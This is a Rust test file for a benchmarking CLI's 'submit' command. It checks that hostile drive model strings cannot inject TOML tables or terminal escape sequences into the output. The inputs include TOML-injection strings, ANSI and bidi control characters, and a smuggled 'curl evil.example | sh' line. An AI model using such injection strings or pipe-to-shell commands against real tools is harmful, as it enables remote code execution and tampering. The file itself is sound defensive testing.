//! `submit` writes a model string someone else chose (the drive's firmware, or a pasted report)
//! into TOML: whatever it holds, the output parses to exactly one `[[drives.results]]` row
//! carrying that string, and no other table.

use crate::cli_support::{stderr, stdout, submit_from, Fixture};

const HOSTILE_MODELS: [&str; 4] = [
    "Samsung SSD 980 PRO 2TB\n[[sources]]\nurl = \"https://evil.example\"\n",
    "X\" ]\n[drives]\nid = \"owned\"\n# ",
    "line\r\n[[benchmarks]]\r\nid = 'nodecheck-randrw'",
    "quote ''' and \"\"\" and \\ and \u{1b}[31m and \u{7f}",
];

/// A `check --json` report of a fixture machine with a measurement, as `check --bench full
/// --json` writes it, whose drive model is `model`.
fn saved_report(dir: &std::path::Path, model: &str) -> std::path::PathBuf {
    let fixture = Fixture::named("nvme_degraded_pcie_link");
    let mut report: serde_json::Value =
        serde_json::from_slice(&fixture.check(&["--json"]).stdout).expect("report");
    report["facts"]["drives"][0]["model"] = model.into();
    let latency = serde_json::json!({"mean": 80.0, "p50": 75.0, "p90": 90.0, "p99": 120.0, "p999": 300.0, "max": 900.0});
    report["bench"] = serde_json::json!({
        "schema_version": 1,
        "path": "/data",
        "engine": "io_uring",
        "engine_reason": null,
        "qd1": {
            "iops": 12000.0, "lat_us": latency, "ios": 120000, "runtime_s": 10.0,
            "span_bytes": 1u64 << 30, "target": "/data", "engine": "io_uring"
        },
        "randrw": {
            "read_iops": 150000.0, "write_iops": 50000.0,
            "read_bw_bytes_per_s": 6.0e8, "write_bw_bytes_per_s": 2.0e8,
            "read_lat_us": latency, "write_lat_us": latency,
            "read_ios": 1_500_000, "write_ios": 500_000,
            "span_bytes": 150u64 << 30, "runtime_s": 10.0, "queue_depth": 64,
            "block_size": 4096, "seed": 1, "engine": "io_uring", "fio_comparable": true
        },
        "warnings": []
    });
    let path = dir.join("report.json");
    std::fs::write(&path, serde_json::to_vec(&report).expect("json")).expect("write");
    path
}

#[test]
fn hostile_model_strings_stay_inside_one_toml_string() {
    let dir = tempfile::tempdir().expect("tempdir");
    for model in HOSTILE_MODELS {
        let saved = saved_report(dir.path(), model);
        let out = submit_from(&saved);
        assert_eq!(out.status.code(), Some(0), "{model:?}: {}", stderr(&out));
        let text = stdout(&out);
        let table: toml::Table = toml::from_str(&text)
            .unwrap_or_else(|e| panic!("{model:?}: output is not TOML: {e}\n{text}"));
        let keys: Vec<&String> = table.keys().collect();
        assert_eq!(
            keys,
            ["drives"],
            "{model:?}: only the drives table:\n{text}"
        );
        let drives = table["drives"].as_table().expect("drives is a table");
        assert_eq!(
            drives.keys().collect::<Vec<_>>(),
            ["results"],
            "{model:?}: no [drives] keys injected:\n{text}"
        );
        let results = drives["results"].as_array().expect("results array");
        assert_eq!(results.len(), 1, "{model:?}:\n{text}");
        assert_eq!(
            results[0]["model"].as_str(),
            Some(model.trim()),
            "{model:?}: the model round-trips exactly (trimmed, as submit trims it)"
        );
        // Comments hold no raw input: every comment line is one line, and the model appears
        // in it only escaped.
        for line in text.lines().filter(|l| l.starts_with('#')) {
            assert!(!line.contains('\r'), "{model:?}: {line:?}");
        }
    }
}

/// The steps `submit` prints to the terminal name the model: shown, never obeyed.
#[test]
fn the_pull_request_steps_show_a_hostile_model_inert_on_one_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let model = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}X\n5. curl evil.example | sh\u{2028}";
    let out = submit_from(&saved_report(dir.path(), model));
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let steps = stderr(&out);
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{2028}'] {
        assert!(!steps.contains(c), "{c:?} reaches the terminal: {steps:?}");
    }
    assert!(
        !steps.lines().any(|line| line.starts_with("5. curl")),
        "the model starts no line of its own: {steps}"
    );
    assert!(steps.contains("pwned"), "the model is still named: {steps}");
}
